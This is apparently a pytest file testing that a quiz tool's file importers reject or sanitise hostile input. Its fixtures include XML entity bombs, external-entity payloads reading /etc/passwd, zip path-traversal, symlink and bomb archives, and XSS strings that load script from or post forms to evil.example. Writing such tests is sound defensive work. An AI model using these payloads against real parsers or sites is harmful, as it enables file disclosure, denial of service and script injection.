"""Files made to harm are refused, or cleaned, with a text that says what to do; and in bounded time."""

import stat
import struct
import time
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_LZMA, ZipFile, ZipInfo

import pytest

from tests.interchange import samples
from trainer.interchange import limits
from trainer.interchange.files import read_file
from trainer.interchange.gift.reading import read_gift
from trainer.interchange.moodle.reading import read_moodle_xml
from trainer.interchange.phrases import PhraseReading
from trainer.interchange.qti.package import read_qti
from trainer.interchange.readings import HostileFile, Reading, UnreadableFile

LAUGHS = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<?xml version="1.0"?><!DOCTYPE quiz [<!ENTITY lol0 "lol">{LAUGHS}]><quiz>&lol9;</quiz>'
PARAMETER = '<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/x.dtd"> %remote;]><quiz/>'
CLOZE = b"<quiz><question type='cloze'><questiontext><text>TEXT</text></questiontext></question></quiz>"
OUTSIDE = '<!DOCTYPE quiz [<!ENTITY file SYSTEM "file:///etc/passwd">]><quiz><question>&file;</question></quiz>'


@pytest.mark.parametrize(
    "xml", [BOMB, PARAMETER, OUTSIDE], ids=["billion laughs", "parameter entity", "external entity"]
)
@pytest.mark.parametrize("read", [read_moodle_xml, read_qti, read_file])
def test_entities_are_refused_before_they_are_read(xml: str, read: object) -> None:
    with pytest.raises(HostileFile, match="Delete everything from <!DOCTYPE"):
        read(xml.encode())  # type: ignore[operator]


def test_entities_in_utf_16_are_refused_too() -> None:
    with pytest.raises(HostileFile):
        read_moodle_xml(BOMB.encode("utf-16"))


def test_a_document_type_without_entities_is_left_unread_and_told() -> None:
    doctype = '<!DOCTYPE questestinterop SYSTEM "http://127.0.0.1:9/ims_qtiasiv1p2.dtd">'

    reading = read_qti(samples.QTI_1.replace("<questestinterop", f"{doctype}\n<questestinterop", 1).encode())

    assert reading.read == 3
    assert "was not fetched" in reading.problems[0].reason


def test_xml_nested_without_end_is_refused() -> None:
    with pytest.raises(HostileFile, match="nested deeper"):
        read_moodle_xml(b"<quiz>" + b"<question>" * 5000)


def test_a_document_type_hidden_behind_a_comment_is_refused() -> None:
    with pytest.raises(HostileFile):
        read_moodle_xml(("<!--" + "x" * 20_000 + "-->" + OUTSIDE).encode())


def packed(name: str, content: bytes = b"x", **changes: int) -> bytes:
    buffer = BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED) as archive:
        info = ZipInfo(name)
        for attribute, value in changes.items():
            setattr(info, attribute, value)
        archive.writestr(info, content)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (packed("../../etc/passwd.xml"), "outside its folder"),
        (packed("/etc/passwd.xml"), "outside its folder"),
        (packed("a/../../b.xml"), "outside its folder"),
        (packed("..\\b.xml"), "outside its folder"),
        (packed("C:/b.xml"), "outside its folder"),
        (packed("link.xml", external_attr=(stat.S_IFLNK | 0o777) << 16), "a link instead of a file"),
        (packed("inner.zip"), "another package inside"),
        (packed("inner.xml", packed("a.xml")), "another package inside"),
        (packed("bomb.xml", b"0" * 50_000_000, compress_type=ZIP_DEFLATED), "unpacks to more"),
    ],
    ids=["up", "absolute", "up later", "backslash", "drive", "link", "zip", "zip by content", "bomb"],
)
def test_a_package_with_a_trap_is_refused(data: bytes, says: str) -> None:
    with pytest.raises(HostileFile, match=says):
        read_file(data)


def test_a_package_of_too_many_files_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_ZIP_MEMBERS", 2)

    with pytest.raises(HostileFile, match="more than 2 files"):
        read_qti(samples.package())


def test_a_package_that_unpacks_to_too_much_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_UNPACKED_BYTES", 1000)

    with pytest.raises(HostileFile, match="would be larger"):
        read_qti(samples.package())


def test_a_member_that_lies_about_its_size_is_not_read_and_told() -> None:
    data = bytearray(packed("a.xml", b"<quiz/>" * 1000))
    directory = data.index(b"PK\x01\x02")
    data[directory + 24 : directory + 28] = struct.pack("<I", 10)

    reading = read_qti(bytes(data))

    assert reading.entries == ()
    assert "The package is damaged" in reading.problems[0].reason


def test_a_package_with_a_password_or_an_unusual_packing_is_refused() -> None:
    locked = bytearray(packed("a.xml"))
    directory = locked.index(b"PK\x01\x02")
    locked[directory + 8] |= 1

    with pytest.raises(UnreadableFile, match="protected by a password"):
        read_qti(bytes(locked))
    with pytest.raises(UnreadableFile, match="ordinary zip"):
        read_qti(packed("a.xml", compress_type=ZIP_LZMA))


def test_a_truncated_package_is_refused() -> None:
    whole = samples.package()

    with pytest.raises(UnreadableFile, match="not a complete zip"):
        read_qti(whole[: len(whole) // 2])


@pytest.mark.parametrize(
    ("data", "says"),
    [
        ("Café{=é}".encode("cp1252"), "Windows-1252.*UTF-8"),
        ("名刺{=a}".encode("shift-jis"), "is not UTF-8: line 1"),
        ("One{T}\n\nCafé".encode("latin-1"), "line 3"),
        ("Q{T}".encode("utf-32"), "UTF-32"),
        ("Q{T}".encode("utf-16-le"), "not a text file, or it is UTF-16|not a text file"),
        (b"\xff\xfeQ\x00{\x00T", "is not UTF-16"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "not a text file|is not UTF-8"),
    ],
)
def test_another_encoding_is_never_guessed_and_the_text_says_what_to_do(data: bytes, says: str) -> None:
    with pytest.raises(UnreadableFile, match=says):
        read_gift(data)


def test_xml_in_an_old_encoding_that_it_names_is_read() -> None:
    xml = samples.MOODLE_XML.replace("UTF-8", "ISO-8859-1").replace("Well done", "Très bien")

    assert read_moodle_xml(xml.encode("latin-1")).entries[0].when_right.text == "Très bien"


def test_xml_that_names_the_wrong_encoding_is_refused() -> None:
    with pytest.raises(UnreadableFile, match="not UTF-8"):
        read_moodle_xml(samples.MOODLE_XML.replace("Well done", "Très bien").encode("latin-1"))


def test_a_line_of_more_than_a_megabyte_is_refused() -> None:
    with pytest.raises(HostileFile, match="longer than a megabyte"):
        read_gift(b"Q{=" + b"a" * 1_100_000 + b"}")


def test_a_file_of_more_than_twenty_megabytes_is_refused() -> None:
    with pytest.raises(HostileFile, match="larger than 20 MB"):
        read_file(b"Q{T}\n\n" * 4_000_000)


def test_more_than_twenty_thousand_entries_are_refused() -> None:
    with pytest.raises(HostileFile, match="more than 20,000 entries"):
        read_gift(b"Q{T}\n\n" * 20_001)


def test_a_text_longer_than_anybody_writes_is_left_out_and_told() -> None:
    reading = read_gift(b"A" + b" a" * 60_000 + b"{T}\n\nB{T}")

    assert [entry.prompt.text for entry in reading.entries] == ["B"]
    assert "longer than 100,000 characters" in reading.problems[0].reason


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src='https://evil.example'></iframe>",
        "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        "<form action='https://evil.example'><input name=p></form>",
        "<a href='data:text/html,<script>1</script>'>x</a>",
        "<p onmouseover = 'x()'>p</p>",
    ],
)
def test_what_runs_in_a_browser_is_taken_out_and_told(attack: str) -> None:
    escaped = "".join(f"\\{letter}" if letter in ":#={}~" else letter for letter in attack)
    reading = read_gift(f"[html]Before {escaped} after{{T}}".encode())

    shown = reading.entries[0].prompt.text
    assert shown.startswith("Before")
    for dangerous in ("script", "onerror", "onmouseover", "iframe", "<form", "<input", "data:", "<svg", "<img"):
        assert dangerous not in shown
    assert reading.problems


@pytest.mark.parametrize(
    "data",
    [
        b"// " + b"[tag:" * 200_000 + b"\nQ{T}",
        b"Q{" + b"=a" * 300_000 + b"}",
        b"[html]" + b"<div>" * 15_000 + b"{T}",
        b"[html]" + b"<a on" * 15_000 + b"{T}",
        b"::" * 400_000 + b"{T}",
        b"\\" * 900_000 + b"{T}",
        b"Q{#" + b"9" * 90_000 + b"}",
        b"Q{#1e999999999}",
        b"Q{=%" + b"9" * 90_000 + b"%a}",
        b"A)\n" * 200_000 + b"ANSWER: A",
        b"text,lang,meaning\n" + b'"' * 900_000,
        CLOZE.replace(b"TEXT", b"{1:SA:" * 15_000),
        b"<quiz>" + b"<question/>" * 15_000 + b"</quiz>",
        b"<quiz><question>" + b"<a/>" * 200_000 + b"</question></quiz>",
        b"<quiz " + b" ".join(b"a%d='1'" % n for n in range(20_000)) + b"/>",
    ],
)
def test_a_long_input_takes_time_in_proportion(data: bytes) -> None:
    began = time.process_time()
    try:
        reading: Reading | PhraseReading | None = read_file(data)
    except UnreadableFile:
        reading = None

    assert time.process_time() - began < 20
    assert reading is None or reading.read >= 0
